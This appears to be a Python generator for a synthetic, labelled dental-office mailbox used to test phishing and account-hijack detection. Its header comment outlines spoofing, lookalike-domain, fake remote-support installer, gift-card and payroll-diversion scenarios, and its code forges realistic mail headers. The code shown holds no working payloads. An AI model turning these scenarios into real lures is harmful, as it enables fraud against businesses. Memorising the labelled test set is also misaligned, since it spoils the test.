#!/usr/bin/env python3
# Usage: python3 docs/probe/make-probe-corpus-39.py OUT_DIR
#
# Probe mailbox "denise": Denise Kowalski, office manager of Scioto Family Dental Group, a three-location dental practice in
# Columbus, Ohio (Clintonville, Dublin, Grove City). Microsoft 365 tenant sciotofamilydental.example: Denise writes from classic
# Outlook desktop (Exchange Online, Date in UTC, Thread-Index, "From:/Sent:" quote header); inbound mail arrives through
# Exchange Online Protection (EOP Received chain, Authentication-Results/compauth, X-Forefront-Antispam-Report). Aug 2024 -
# May 2025, America/New_York with both DST changes. English (one patient writes Spanish).
# Correspondents, each with a fixed fingerprint (Message-ID shape, client headers, Received path, DKIM d=/s=, quote style, tz):
#   Keystone Revenue Partners (outsourced billing; Google Workspace, Gmail web "On ... wrote:", DKIM s=google; Virtru for PHI,
#     Google Calendar invitations): Tanya Brooks, Marcus Webb, later Alyssa Romero
#   Buckeye Dental Arts Lab (M365 tenant, Outlook desktop; invoices through QuickBooks notification mail): Greg Halloran, Lisa Tran
#   Midwest Dental Supply (M365, Outlook desktop, DMARC reject; order system via Amazon SES; promos): Tom Jarvis (later Outlook iOS)
#   Great Lakes Dental Benefits (carrier; M365 with Purview message encryption; EOB/claim notices via Amazon SES): Monique Carter
#   ClaimBridge (clearinghouse; SendGrid notifications)      BuckeyeVoice hosted PBX (voicemail-to-email, .wav attachments)
#   Olentangy IT Solutions (MSP; PSA ticket system via SendGrid "Ticket #Tyyyymmdd.nnnn", own ScreenConnect at
#     help.olentangyit.example; engineers on M365 Outlook): Jake Ferris (tech), Nora Whitfield (project engineer)
#   OpenChair Software (practice-management vendor, Utah; Zendesk support "##- Please type your reply above this line -##";
#     account manager on M365 Outlook, America/Denver; HubSpot-style release notes)
#   Mid-Ohio Property Management (landlord's manager; cPanel/Exim + Roundcube, DocuSign for leases): Carla Benton, Dave Ruiz
#   Hartwell & Moss CPAs (accountant; M365 Outlook, ShareFile links): Ellen Hartwell, Josh Kim
#   Patients: Barbara Lindqvist (AOL web on Yahoo infrastructure), Ron Petrakis (Yahoo Mail Android), Kevin Doyle (Comcast
#     Xfinity Connect / Open-Xchange), Priya Raman (Gmail), Jessica Moreau (iPhone, iCloud), Rosa Delgado (Gmail, Spanish)
#   Internal (same tenant, MAPI hops, AuthAs Internal): Dr. Amir Haddad (owner; Outlook desktop + Outlook for iOS),
#     Kayla Nguyen (hygienist; Outlook on the web), Brittany Shaw (Dublin front desk lead)
#   Olentangy Valley Bank alerts (Zelle/ACH), Central Ohio Dental Society newsletter (Mailchimp) and its Mailman 3 list
#     "CODS-PM" (practice managers; footer, List-* headers, DMARC From-munging), UPS notices.
# Writes OUT_DIR/labels.tsv, OUT_DIR/scenarios.tsv (file -> scenario id, description) and
# OUT_DIR/mailboxes/denise/{INBOX,Sent}/N.eml numbered in arrival order across both folders (CRLF). Only test messages are
# labelled; the rest is context history. Deterministic (random.Random(39)); no network; attachments are inert.
#
# Threads (31): T1 Keystone monthly A/R review (Tanya, later Alyssa); T2 Keystone payer follow-up / monthly call (Marcus);
#   T3 lab statement question (remake charge); T4 lab bank change (letter, phone verification); T5 lab case photos / shade;
#   T6 Midwest backorders; T7 Midwest autoclave quote; T8 patient Lindqvist prior x-rays; T9 patient Petrakis implant estimate;
#   T10 patient Doyle overpayment refund (Zelle); T11 [Ticket T20241015.0032] Dublin scanner; T12 [Ticket T20250203.0017]
#   Grove City backup; T13 MSP MFA rollout; T14 OpenChair support request (claims export); T15 OpenChair renewal;
#   T16 accountant year-end 1099/W-2; T17 lease renewal (Clintonville); T18 Grove City rooftop unit (revived after 7 months);
#   T19 2024 CAM reconciliation; T20 staff appreciation lunch (internal); T21 Kayla PTO request (internal);
#   T22 carrier credentialing Dr. Sarah Kim; T23 CODS-PM list "crown downgrades"; T24 CODS-PM list "after-hours phones";
#   T25 patient Moreau insurance card; T26 patient Raman statement (starts as orphan); T27 FW carrier fee schedule (internal);
#   T28 patient Delgado (Spanish) appointment; T29 Grove City spore test (internal, Kayla); T30 lab holiday delivery schedule;
#   T31 [Ticket T20250318.0009] Clintonville new hire (after the spoof in T12).
#   Plus stand-alone mail: EOB/claim notices, clearinghouse reports, voicemail, QuickBooks invoices, order/UPS notices,
#   newsletters, PSA notifications, Google Calendar invitations, DocuSign, bank alerts, automatic replies.
#
# Hijacks (15):
#   A1  T1  server-hijack      Keystone (Tanya's real Workspace account, Gmail web headers): Virtru-look "secure message" in the
#                              thread, Saturday 05:12, no quote; "Unlock Message" goes to a docs.google.com drawing, not Virtru
#   A2  T4  lookalike-domain   buckeyedentalart.example (own M365 tenant, same Outlook fingerprint): "bank's onboarding review"
#                              follow-up to the real bank change, new routing/account, ACH form PDF without links; quotes thread
#   A3  T8  account-takeover   patient's AOL account via Yahoo SMTP (Hermes ESMTPA, ir2 region, tool Message-ID, no AOL
#                              X-Mailer, ">" quoting): "x-ray images" link on an unknown image-sharing domain, 4 months later
#   A4  T12 display-name-spoof "Olentangy IT Service Desk" from outlook.com quoting the real ticket: install "updated support
#                              agent" ScreenConnect .msi from a *.screenconnect.com trial instance
#   A5  --  display-name-spoof "BuckeyeVoice Voicemail" from a compromised HVAC company's cPanel (PHPMailer): SVG "voicemail"
#   A6  T2  account-takeover   Marcus's Workspace account through smtp.gmail.com ESMTPSA from Outlook 16 on a foreign desktop
#                              (Outlook Message-ID, Date +0100): .ics "Q1 payer review" whose join link is an unknown domain
#   A7  --  fake-thread        "Vendor Compliance" stranger, RE: W-9 / TIN verification with a fabricated quote of Denise, .docm
#   A8  T16 lookalike-domain   hartwellmoss-cpa.example (Open-Xchange hosting): engagement invoice PDF whose "Pay online" link
#                              goes to a new payment portal; quotes the real thread; tax-season pretext
#   A9  --  fake-thread        "Provider Credentialing Services" RE: recredentialing, fabricated quote, OneNote attachment,
#                              stilted English
#   A10 T20 display-name-spoof "Dr. Amir Haddad" from gmail.com in the real lunch thread (stolen quote): gift cards, no payload
#   A11 T15 account-takeover   OpenChair account manager's M365 mailbox via SMTP AUTH from a VPS (Thunderbird): MFA "enrollment
#                              desk" callback number, read out the code - no link, no attachment
#   A12 T6  server-hijack      Midwest rep's real M365 (same Outlook headers), 04:52: password-protected zip (.js inside),
#                              password in the text, "backorder release / delivery schedule"; faithful quote
#   A13 T17 server-hijack      property manager's real cPanel/Roundcube: HTML attachment "CAM addendum" e-signature page;
#                              the quoted text of Carla's earlier message is altered to mention the addendum
#   A14 T5  server-hijack      lab owner's real M365: "2025 fee schedule" zip with a .lnk shortcut and hidden payload, no quote,
#                              Sunday 01:38
#   A15 T21 server-hijack      hygienist's real mailbox (Outlook on the web, internal headers) revives the PTO thread after
#                              3 months: direct-deposit change before payroll, no payload
#
# Genuine hard cases (34):
#   G1  T1  Virtru secure-message notice from Tanya (PHI detail), link to secure.virtru.com
#   G2  T1  second Virtru notice (credit-balance refund list)             G3  T1  Tanya's "our account was compromised" warning
#   G4  T1  new account rep Alyssa writes herself after the introduction  G5  T1  Alyssa posts the summary as a Google Drive link
#   G6  --  Google Calendar invitation from Marcus (invite.ics + Meet link, calendar-notification Sender)
#   G7  T2  Marcus Virtru notice about a disputed patient balance         G8  T4  lab's bank-change letter PDF (asks for a call)
#   G9  T4  lab statement PDF showing the new (verified) remit-to bank    G10 T5  lab shares shade photos through Dropbox Transfer
#   G11 T9  patient revives the estimate thread after 5 months from Yahoo Android
#   G12 T10 patient asks to Zelle the refund to his wife's phone instead (verified by phone in Sent)
#   G13 T11 MSP tech sends the ScreenConnect join link in the ticket Denise opened
#   G14 --  PSA "ticket completed" + survey notification (no reply headers)
#   G15 T12 MSP sends the zipped backup job reports Denise asked for     G16 T13 MSP MFA rollout with aka.ms links and PDF guide
#   G17 T14 vendor support (Zendesk) sends hotfix download link in the request Denise opened
#   G18 T15 vendor account manager's automatic reply (holiday)           G19 T16 accountant's ShareFile upload-request link
#   G20 T16 accountant partner's automatic reply (year-end)             G21 T16 password-protected zip of W-2 copies, password by phone
#   G22 --  DocuSign envelope for the lease renewal (via DocuSign)        G23 T18 rooftop-unit thread revived after 7 months
#   G24 T19 CAM reconciliation PDF with unchanged payment instructions   G25 T20 owner replies from Outlook for iOS at 23:47
#   G26 T22 carrier sends credentialing portal links                      G27 T22 carrier Purview protected message (OME link)
#   G28 T23 list reply with a docs.google.com sheet link and list footer G29 T24 list reply with DMARC From-munging "via CODS-PM"
#   G30 T25 patient sends insurance-card photos from iPhone at 23:12     G31 T27 owner forwards (FW:) a carrier letter PDF from iPhone
#   G32 --  BuckeyeVoice voicemail notification with .wav                 G33 T7  supply rep now on Outlook for iOS, new cell number
#   G34 T26 patient attaches a payment receipt PDF after paying through the card portal
# Counts: 335 messages (256 INBOX, 79 Sent); labelled 111 = 15 hijacks (server-hijack 5, account-takeover 3, display-name-spoof 3,
#   lookalike-domain 2, fake-thread 2) + 34 genuine-hard + 2 genuine-orphan + 60 genuine-reply.
# Genuine orphans: O1 T22 carrier reply-all to Dr. Haddad's message that Denise never received (she is added in Cc);
#   O2 T26 patient replies to Keystone's statement e-mail (sent only to her) and adds Denise.
# Plain genuine replies: every other labelled in-thread partner reply (genuine-reply).
import base64, datetime, hashlib, html as H, io, os, quopri, random, struct, sys, uuid, zipfile, zlib
from zoneinfo import ZoneInfo

if len(sys.argv) != 2: raise SystemExit("usage: make-probe-corpus-39.py OUT_DIR")
root = sys.argv[1]
MB = "denise"
for _f in ("INBOX", "Sent"): os.makedirs(f"{root}/mailboxes/{MB}/{_f}", exist_ok=True)
R = random.Random(39)
ET = ZoneInfo("America/New_York"); CT = ZoneInfo("America/Chicago"); MT = ZoneInfo("America/Denver"); PT = ZoneInfo("America/Los_Angeles")
UTC = datetime.timezone.utc
WAT = datetime.timezone(datetime.timedelta(hours=1))     # clock of the attacker's workstation
TD = datetime.timedelta


def hx(k): return "".join(R.choice("0123456789abcdef") for _ in range(k))
def HX(k): return hx(k).upper()
def rbytes(k): return bytes(R.getrandbits(8) for _ in range(k))
def ruuid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def alnum(k): return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))
def b64(k): return base64.b64encode(rbytes(k)).decode()
def fb(k, ind="\n\t "):
    """long base64 value folded for a header (FWS inside a DKIM/ARC b= tag is ignored by verifiers)"""
    v = b64(k); return ind.join(v[i:i + 72] for i in range(0, len(v), 72))
def at(y, mo, d, h, mi, tz=ET): return datetime.datetime(y, mo, d, h, mi, R.randint(0, 59), tzinfo=tz)


OWN = "sciotofamilydental.example"
# M365 tenants: domain -> (mailbox host prefix, region, outbound EOP helo/ip pairs, DKIM selector, DMARC policy)
EXO = {}
def tenant(dom, host, region, nam, sel="selector1", dmarc="none"):
    hel = [(f"NAM{nam}-{x}-obe.outbound.protection.outlook.com", f"40.107.{R.randint(92, 236)}.{R.randint(2, 250)}")
           for x in R.sample(["MW2", "BN8", "DM6", "CO1", "SN1", "BN1", "DM3", "MW6", "DM5", "BN7"], 2)]
    EXO[dom] = dict(host=host, region=region, helo=hel, sel=sel, dmarc=dmarc, tid=ruuid())
tenant(OWN, "CH0PR04MB8051", "namprd04", "04", dmarc="quarantine")
tenant("buckeyedentalarts.example", "SA1PR17MB5523", "namprd17", "11")
tenant("buckeyedentalart.example", "PH7PR22MB3390", "namprd22", "12", sel="selector1")          # look-alike tenant (A2)
tenant("midwestdentalsupply.example", "DM8PR10MB6214", "namprd10", "10", sel="selector2", dmarc="reject")
tenant("greatlakesdental.example", "MN2PR13MB4407", "namprd13", "02", dmarc="reject")
tenant("olentangyit.example", "BL1PR14MB7215", "namprd14", "12", dmarc="quarantine")
tenant("openchairsoftware.example", "SJ2PR19MB8862", "namprd19", "10", dmarc="reject")
tenant("hartwellmoss.example", "CO1PR11MB5093", "namprd11", "11", dmarc="quarantine")
MBX2 = "MW4PR04MB7426"   # second mailbox server of our tenant (HTTPS hop)


class Pt:
    def __init__(s, name, email, client, infra, sig="", tz=ET, host=None):
        s.name, s.email, s.client, s.infra, s.sig, s.tz = name, email, client, infra, sig, tz
        s.dom = email.split("@")[1]
        s.host = host or (EXO[s.dom]["host"] if s.dom in EXO else None)


# non-M365 sending infrastructures: helo/ptr, ip, DKIM (d, s) list, envelope (None: From address), DMARC policy of From domain,
# country of the connecting IP as EOP reports it
INFRA = {
    "gws-keystone": dict(helo=[("mail-sor-f41.google.com", "209.85.220.41"), ("mail-sor-f69.google.com", "209.85.220.69")],
                         dk=[("keystonerevenue.example", "google")], dmarc="quarantine", ctry="US"),
    "gmail": dict(helo=[("mail-qt1-f176.google.com", "209.85.160.176"), ("mail-yb1-f181.google.com", "209.85.219.181"),
                        ("mail-pl1-f173.google.com", "209.85.214.173")], dk=[("gmail.com", "20230601")], dmarc="none", ctry="US"),
    "aol": dict(helo=[("sonic317-21.consmr.mail.ne1.yahoo.com", "66.163.189.147"), ("sonic309-15.consmr.mail.ne1.yahoo.com", "66.163.184.141")],
                dk=[("aol.com", "a2048")], dmarc="reject", ctry="US"),
    "aol-ir2": dict(helo=[("sonic304-9.consmr.mail.ir2.yahoo.com", "77.238.179.82")], dk=[("aol.com", "a2048")], dmarc="reject", ctry="IE"),
    "yahoo": dict(helo=[("sonic306-20.consmr.mail.bf2.yahoo.com", "74.6.132.59"), ("sonic315-8.consmr.mail.bf2.yahoo.com", "74.6.135.47")],
                  dk=[("yahoo.com", "s2048")], dmarc="reject", ctry="US"),
    "comcast": dict(helo=[("resomta-h2p-554612.sys.comcast.net", "96.102.179.201"), ("resomta-h2p-554620.sys.comcast.net", "96.102.179.209")],
                    dk=[("comcast.net", "20190202a")], dmarc="none", ctry="US"),
    "icloud": dict(helo=[("st43p00im-ztfb10063301.me.com", "17.58.63.179"), ("st43p00im-zteg10062001.me.com", "17.58.63.176")],
                   dk=[("icloud.com", "1a1hai")], dmarc="quarantine", ctry="US"),
    "cpanel-midohio": dict(helo=[("gator4172.hostgator.example", "192.254.234.118")], dk=[("midohioproperties.example", "default")],
                           dmarc=None, ctry="US"),
    "sg-oit": dict(helo=[("o3.ptr6614.olentangyit.example", "149.72.154.231"), ("o4.ptr6614.olentangyit.example", "149.72.154.232")],
                   dk=[("olentangyit.example", "s1"), ("sendgrid.info", "smtpapi")], env="em4471.olentangyit.example", dmarc="quarantine", ctry="US"),
    "zd-openchair": dict(helo=[("outbyip04.pod17.use1.zdsys.example", "192.161.151.4")], dk=[("openchairsoftware.example", "zendesk1"), ("zendesk.example", "zendesk3")],
                         env="mail.openchairsoftware.example", dmarc="reject", ctry="US"),
    "hs-openchair": dict(helo=[("bid4f.hubspotemail.example", "158.247.17.79")], dk=[("openchairsoftware.example", "hs1"), ("hubspotemail.example", "hs2")],
                         env="hs.openchairsoftware.example", dmarc="reject", ctry="US"),
    "ses-gldb": dict(helo=[("a48-110.smtp-out.amazonses.com", "54.240.48.110"), ("a48-93.smtp-out.amazonses.com", "54.240.48.93")],
                     dk=[("notify.greatlakesdental.example", "gldb2023"), ("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw")],
                     env="bounce.notify.greatlakesdental.example", dmarc="reject", ctry="US"),
    "ses-mds": dict(helo=[("a8-31.smtp-out.amazonses.com", "54.240.8.31")], dk=[("midwestdentalsupply.example", "orders2022"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
                    env="mail.midwestdentalsupply.example", dmarc="reject", ctry="US"),
    "sfmc-mds": dict(helo=[("mta-s7.e.midwestdentalsupply.example", "13.111.44.7")], dk=[("e.midwestdentalsupply.example", "200608")],
                     env="bounce.e.midwestdentalsupply.example", dmarc="reject", ctry="US"),
    "sg-claimbridge": dict(helo=[("o12.ptr2231.claimbridge.example", "167.89.101.12")], dk=[("claimbridge.example", "s1"), ("sendgrid.info", "smtpapi")],
                           env="em118.claimbridge.example", dmarc="none", ctry="US"),
    "pbx-bv": dict(helo=[("vmail02.pbx.buckeyevoice.example", "208.71.184.22")], dk=[("buckeyevoice.example", "pbx2023")], env="pbx.buckeyevoice.example",
                   dmarc="none", ctry="US"),
    "intuit": dict(helo=[("mta-qbo-03.notification.intuit.example", "206.108.41.83")], dk=[("notification.intuit.example", "qbo2048")],
                   env="bounces.notification.intuit.example", dmarc="reject", ctry="US"),
    "docusign": dict(helo=[("mailna4.docusign.net", "64.207.219.73")], dk=[("docusign.net", "mail")], env="docusign.net", dmarc="reject", ctry="US"),
    "gcal-keystone": dict(helo=[("mail-sor-f73.google.com", "209.85.220.73")], dk=[("keystonerevenue.example", "google"), ("google.com", "20230601")],
                          env="calendar-server.bounces.google.com",
                          dmarc="quarantine", ctry="US"),
    "mc-cods": dict(helo=[("mail38.atl221.mcdlv.net", "198.2.138.38")], dk=[("cods.example", "k2"), ("mailchimpapp.net", "k3")], env="mail38.atl221.mcdlv.net",
                    dmarc="none", ctry="US"),
    "list-cods": dict(helo=[("lists.cods.example", "162.243.117.40")], dk=[("lists.cods.example", "list2022")], env="lists.cods.example", dmarc=None, ctry="US"),
    "ovbank": dict(helo=[("omta02.alerts.ovbank.example", "199.47.216.12")], dk=[("alerts.ovbank.example", "ovb1")], env="alerts.ovbank.example", dmarc="reject", ctry="US"),
    "ups": dict(helo=[("mta-ups-nj02.ups.example", "153.2.228.52")], dk=[("ups.example", "upsmail")], env="bounce.ups.example", dmarc="reject", ctry="US"),
    # attackers
    "outlookcom": dict(helo=[("NAM10-DM6-obe.outbound.protection.outlook.com", "40.92.41.103")], dk=[("outlook.com", "selector1")], dmarc="none", ctry="US"),
    "cp-ridgeline": dict(helo=[("cp-wh-3-4.webhostbox.example", "103.21.59.172")], dk=[("ridgelinehvac.example", "default")], dmarc=None, ctry="IN"),
    "pe-hmlook": dict(helo=[("mta-13.privateemail.example", "198.54.122.213")], dk=[("hartwellmoss-cpa.example", "default")], dmarc=None, ctry="US"),
    "vps-gldbv": dict(helo=[("mail.gldb-vendorservices.example", "91.215.85.147")], dk=[("gldb-vendorservices.example", "mail")], dmarc=None, ctry="NL"),
    "vps-pdv": dict(helo=[("smtp.providerdata-verify.example", "185.174.136.29")], dk=[("providerdata-verify.example", "default")], dmarc=None, ctry="BG"),
}
for _d, _e in EXO.items():
    INFRA["exo:" + _d] = dict(helo=_e["helo"], dk=[(_d, _e["sel"])], dmarc=None if _d == "buckeyedentalart.example" else _e["dmarc"], ctry="US", exo=True)


def exo_build(t):
    days = (t.astimezone(UTC).date() - datetime.date(2024, 8, 1)).days
    return f"15.20.{7828 + days * 3}.{R.randint(10, 40):03d}"
def rfc_utc(t): return t.astimezone(UTC).strftime("%a, %-d %b %Y %H:%M:%S +0000")
def rfc_loc(t, tz=None, pad=False): return (t.astimezone(tz) if tz else t).strftime("%a, %d %b %Y %H:%M:%S %z" if pad else "%a, %-d %b %Y %H:%M:%S %z")
def pac(t): return t.astimezone(PT).strftime("%a, %d %b %Y %H:%M:%S %z (%Z)")
def v6(): return f"2603:10b6:{hx(3)}:{hx(3)}::{hx(2)}"
def fe80(): return f"fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}"

EXO_CLIENTS = ("olk", "owa", "olkios", "outlookcom", "tbsmtp")


def make_mid(who, client, t):
    if client in ("olk", "owa", "olkios"):
        e = EXO[who.dom]; return f"<{who.host}{HX(21)}@{who.host}.{e['region']}.prod.outlook.com>"
    if client == "outlookcom":
        h = f"SJ0P220MB{R.randint(1000, 9999)}"; return f"<{h}{HX(21)}@{h}.NAMP220.PROD.OUTLOOK.COM>"
    if client in ("gws", "gmail", "gmailios"): return "<CA" + base64.urlsafe_b64encode(rbytes(42)).decode()[:R.choice((52, 54, 55))] + "@mail.gmail.com>"
    if client in ("aol", "yahoo", "ymand"): return f"<{R.randint(10**8, 2 * 10**9)}.{R.randint(10**5, 9 * 10**6)}.{int(t.timestamp() * 1000) + R.randint(1, 999)}@mail.yahoo.com>"
    if client == "aolsmtp": return f"<{t.astimezone(WAT):%Y%m%d%H%M%S}.{HX(16)}@aol.com>"
    if client == "xfin": return f"<{R.randint(10**8, 2 * 10**9)}.{R.randint(10**5, 999999)}.{int(t.timestamp() * 1000) + R.randint(1, 999)}@connect.xfinity.com>"
    if client == "oxpe": return f"<{R.randint(10**8, 2 * 10**9)}.{R.randint(10**5, 999999)}.{int(t.timestamp() * 1000) + R.randint(1, 999)}@privateemail.example>"
    if client == "iphone": return f"<{ruuid().upper()}@{who.dom}>"
    if client in ("rc", "rcold"): return f"<{hx(32)}@{who.dom}>"
    if client in ("tb", "tbsmtp"): return f"<{ruuid()}@{who.dom}>"
    if client == "olsmtp": return f"<000{hx(1)}01db{hx(4)}${hx(8)}${hx(8)}$@{who.dom}>"
    if client == "phpmailer": return f"<{alnum(43)}@cp-wh-3-4.webhostbox.example>"
    if client == "psa": return f"<{ruuid()}@psa.olentangyit.example>"
    if client == "zd": return f"<{alnum(10).upper()}_{hx(13)}_{hx(13)}_sprut@zendesk.example>"
    if client == "ses": return f"<0100019{hx(9)}-{ruuid()}-000000@email.amazonses.com>"
    if client == "sg": return f"<{alnum(22)}@geopod-ismtpd-{R.randint(1, 12)}>"
    if client == "pbx": return f"<{int(t.timestamp())}.{hx(8)}@vmail02.pbx.buckeyevoice.example>"
    if client == "qbo": return f"<{ruuid()}@qbo.notification.intuit.example>"
    if client == "gcal": return f"<calendar-{ruuid()}@google.com>"
    if client == "mc": return f"<{hx(20)}.{hx(10)}@mail38.atl221.mcdlv.net>"
    return f"<{hx(24)}.{int(t.timestamp())}@{who.dom}>"


def _lines(text, pfx="> "): return "\n".join(pfx + l if l else pfx.rstrip() for l in text.split("\n"))
def _lines_ff(text): return "\n".join((">" + l) if l.startswith(">") else ("> " + l if l else ">") for l in text.split("\n"))


def quote_of(client, q, tz=ET):
    """plain-text quote block of record q written by `client` (times in the writer's time zone tz)"""
    t = q["t"].astimezone(tz); name, email = q["name"], q["email"]
    ampm = f"{t:%-I:%M %p}"
    if client in ("olk", "olsmtp", "owa", "olkios", "outlookcom"):
        tos = "; ".join(f"{n} <{e}>" if n else e for n, e in q["to"])
        sent = f"{t:%A}, {t:%B} {t.day}, {t.year} {t:%-I:%M:%S %p}" if client == "olkios" else f"{t:%A}, {t:%B} {t.day}, {t.year} {ampm}"
        rows = [("From", f"{name} <{email}>"), ("Sent", sent), ("To", tos)]
        if q["cc"]: rows.append(("Cc", "; ".join(f"{n} <{e}>" if n else e for n, e in q["cc"])))
        rows.append(("Subject", q["subj"]))
        sep = "________________________________\n" if client in ("owa", "olkios", "outlookcom") else ("-----Original Message-----\n" if client == "olsmtp" else "")
        return "\n\n" + sep + "\n".join(f"{k}: {v}" for k, v in rows) + "\n\n" + q["plain"]
    if client in ("gws", "gmail", "gmailios"):
        return f"\n\nOn {t:%a}, {t:%b} {t.day}, {t.year} at {ampm} {name} <{email}> wrote:\n\n" + _lines(q["plain"])
    if client == "aol":
        tos = ", ".join(f"{n} <{e}>" if n else e for n, e in q["to"])
        return (f"\n\n\n-----Original Message-----\nFrom: {name} <{email}>\nTo: {tos}\nSent: {t:%a}, {t:%b} {t.day}, {t.year} {t:%-I:%M} "
                f"{t:%p}".replace(" AM", " am").replace(" PM", " pm") + f"\nSubject: {q['subj']}\n\n" + q["plain"])
    if client == "ymand":
        flat = " ".join(l.strip() for l in q["plain"].split("\n") if l.strip())
        return f"\n\n \n  On {t:%a}, {t:%b} {t.day}, {t.year} at {ampm}, {name}<{email}> wrote:   " + flat
    if client in ("xfin", "oxpe"):
        return f"\n\n> On {t:%m/%d/%Y} {ampm} {t:%Z} {name} <{email}> wrote:\n> \n> \n" + _lines(q["plain"])
    if client == "iphone": return f"\n\n> On {t:%b} {t.day}, {t.year}, at {ampm}, {name} <{email}> wrote:\n> \n" + _lines(q["plain"])
    if client in ("rc", "rcold"): return f"\n\nOn {t:%Y-%m-%d %H:%M}, {name} wrote:\n" + _lines_ff(q["plain"])
    if client in ("tb", "tbsmtp"): return f"\n\nOn {t.month}/{t.day}/{t:%y} {ampm}, {name} wrote:\n" + _lines_ff(q["plain"])
    if client == "aolsmtp": return f"\n\nOn {t:%a, %d %b %Y %H:%M}, {name} wrote:\n" + _lines(q["plain"])
    return "\n\n" + _lines(q["plain"])


def _esc(plain): return "<br>\n".join(H.escape(l) for l in plain.split("\n"))


def html_of(client, plain):
    esc = _esc(plain)
    if client in ("olk", "olsmtp"):
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" '
                'content="text/html; charset=utf-8">\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n/* Font Definitions */\n'
                '@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0in;\n\tfont-size:12.0pt;\n\tfont-family:"Aptos",sans-serif;}\n'
                '--></style>\n</head>\n<body lang="EN-US" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n'
                '<p class="MsoNormal">' + esc + "<o:p></o:p></p>\n</div>\n</body>\n</html>")
    if client in ("owa", "olkios", "outlookcom"):
        return ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n<style type="text/css" style="display:none;"> '
                'P {margin-top:0;margin-bottom:0;} </style>\n</head>\n<body dir="ltr">\n<div class="elementToProof" style="font-family: Aptos, '
                'Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">\n' + esc + "</div>\n</body>\n</html>")
    if client in ("gws", "gmail", "gmailios"): return '<div dir="ltr">' + esc + "</div>\n"
    if client in ("aol", "yahoo", "ymand"):
        return ('<html><head></head><body><div class="ydp' + hx(8) + 'yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;'
                'font-size:16px;"><div dir="ltr" data-setdir="false">' + esc + "</div></div></body></html>")
    if client in ("xfin", "oxpe"):
        return '<!doctype html>\n<html>\n <head>\n  <meta charset="UTF-8">\n </head>\n <body>\n  <div class="default-style">\n   ' + esc + "\n  </div>\n </body>\n</html>"
    if client == "psa":
        return ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;'
                'font-size:13px;color:#222">' + esc + "</body></html>")
    return None


# ---------------------------------------------------------------- transport: sender side + Exchange Online Protection of our tenant
def sender_hops(who, ik, t, client, orig_ip, helo):
    inf = INFRA[ik]; hops = []
    if inf.get("exo"):
        e = EXO[who.dom]; host = who.host or e["host"]; reg = e["region"]; host2 = host[:-4] + str(R.randint(1000, 9999)); b = exo_build(t)
        if client == "tbsmtp":
            hops.append(("Received", f"from [127.0.0.1] ({orig_ip}) by {host}.{reg}.prod.outlook.com\n ({v6()}) with Microsoft SMTP Server (version=TLS1_3,\n"
                                     f" cipher=TLS_AES_256_GCM_SHA384) id {b}; {rfc_utc(t)}"))
        else:
            hops.append(("Received", f"from {host}.{reg}.prod.outlook.com\n ([{fe80()}]) by {host}.{reg}.prod.outlook.com\n ([{fe80()}%{R.randint(3, 7)}]) with mapi id {b}; {rfc_utc(t)}"))
        hops.insert(0, ("Received", f"from {host}.{reg}.prod.outlook.com ({v6()}) by\n {host2}.{reg}.prod.outlook.com ({v6()}) with Microsoft SMTP Server (version=TLS1_2,\n"
                                    f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {b}; {rfc_utc(t + TD(seconds=1))}"))
        hops[0:0] = [("ARC-Seal", f"i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fb(190)}"),
                     ("ARC-Message-Signature", "i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
                      f"X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n bh={b64(32)};\n b={fb(190)}"),
                     ("ARC-Authentication-Results", "i=1; mx.microsoft.com 1; spf=none; dmarc=none;\n dkim=none; arc=none")]
    elif ik in ("gws-keystone", "gmail", "gcal-keystone"):
        if client == "olsmtp":
            hops.append(("Received", f"from DESKTOP-R4K8TQ1 ([{orig_ip}])\n        by smtp.gmail.com with ESMTPSA id {hx(16)}sm{R.randint(10**7, 10**8 - 1)}.{R.randint(10, 99)}.{t.year}.{t.month:02d}.{t.day:02d}."
                                     f"{t.astimezone(UTC):%H.%M.%S}\n        for <dkowalski@{OWN}>\n        (version=TLS1_2 cipher=ECDHE-ECDSA-AES128-GCM-SHA256 bits=128/128);\n        {pac(t)}"))
        elif client == "gcal":
            hops.append(("Received", f"by 2002:a05:6a11:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(22).lower()}; {pac(t)}"))
        elif client in ("gmailios", "iphone"):
            hops.append(("Received", f"from smtpclient.apple ([{orig_ip}])\n        by smtp.gmail.com with ESMTPSA id {hx(16)}sm{R.randint(10**7, 10**8 - 1)}.{R.randint(10, 99)}.{t.year}.{t.month:02d}.{t.day:02d}."
                                     f"{t.astimezone(UTC):%H.%M.%S}\n        for <dkowalski@{OWN}>\n        (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128);\n        {pac(t)}"))
        else:
            hops.append(("Received", f"by 2002:a05:7010:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with HTTP; {pac(t)}"))
